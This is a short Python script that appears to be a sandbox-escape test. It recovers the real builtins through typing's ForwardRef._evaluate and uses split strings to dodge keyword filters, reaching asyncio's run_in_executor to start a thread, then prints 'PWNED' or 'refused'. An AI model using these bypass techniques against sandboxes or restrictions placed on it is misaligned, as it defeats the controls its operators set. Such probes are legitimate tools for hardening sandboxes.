# asyncio: loop.run_in_executor by a computed name: a thread
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import asyncio
async def main():
    loop = asyncio.get_running_loop()
    f = ga(loop, "run_in_" + "executor")
    return await f(None, len, "abcd")
try:
    print(M, "thread ran", asyncio.run(main()))
except Exception as e:
    print("refused:", type(e).__name__, e)
